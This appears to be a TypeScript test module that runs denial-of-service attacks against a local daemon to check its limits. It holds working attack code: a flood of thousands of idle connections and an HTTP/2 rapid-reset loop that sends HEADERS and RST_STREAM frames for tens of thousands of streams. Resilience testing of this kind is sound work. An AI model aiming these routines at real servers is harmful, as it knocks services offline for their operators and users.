import { once } from 'node:events'
import { connect } from 'node:net'
import { type Attack, allOf, scaled } from './attack.ts'

/** The beginning of a connection, with empty settings. */
export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0', 'latin1')
/** GET http / with `:authority: a`. */
const HEADERS = Buffer.from('828684410161', 'hex')

/** A frame of HTTP/2 (RFC 9113 4.1). */
export function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

export const connections: readonly Attack[] = [
  {
    name: 'idle connections beyond every limit',
    run: (field) =>
      allOf(scaled(9000, field), 100, async () => {
        const socket = connect({ host: '127.0.0.1', port: field.daemon.port })
        field.held.defer(() => void socket.destroy())
        socket.on('error', () => {})
        await once(socket, 'connect')
      }),
  },
  {
    name: 'streams of HTTP/2 that are reset at once',
    run: (field) =>
      allOf(4, 4, async (index) => {
        const socket = connect({ host: '127.0.0.1', port: field.daemon.port })
        field.held.defer(() => void socket.destroy())
        socket.on('error', () => {})
        socket.resume()
        socket.write(PREFACE)
        // What comes with the beginning is read in another way than what follows.
        if (index % 2 === 1) await once(socket, 'data')
        const reset = Buffer.from([0, 0, 0, 8])
        let stream = 1
        for (let left = scaled(50_000, field); left > 0 && !socket.destroyed; left--, stream += 2) {
          const room = socket.write(Buffer.concat([frame(1, 5, stream, HEADERS), frame(3, 0, stream, reset)]))
          if (!room) await Promise.race([once(socket, 'drain'), once(socket, 'close')])
        }
      }),
  },
]
